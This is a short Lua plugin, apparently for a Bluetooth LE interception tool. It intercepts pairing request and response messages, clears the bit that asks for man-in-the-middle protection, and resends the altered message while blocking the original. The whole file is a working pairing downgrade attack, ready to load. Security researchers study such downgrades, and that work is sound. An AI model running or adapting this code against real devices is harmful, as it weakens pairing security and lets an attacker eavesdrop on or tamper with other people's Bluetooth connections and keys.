-- SPDX-License-Identifier: GPL-2.0-only
-- Pairing Request and Pairing Response (code, IO, OOB, AuthReq, ...) go on without the bit that asks for
-- protection from a man in the middle.
local MITM = 4

return {
    seen = function(message)
        local bytes = message.bytes
        if not bytes or #bytes ~= 7 then return end
        if message.message ~= "Pairing Request" and message.message ~= "Pairing Response" then return end
        message.bytes = bytes:sub(1, 3) .. string.char(bytes:byte(4) & ~MITM) .. bytes:sub(5)
        adv.resend(message)
        return "block"
    end,
}
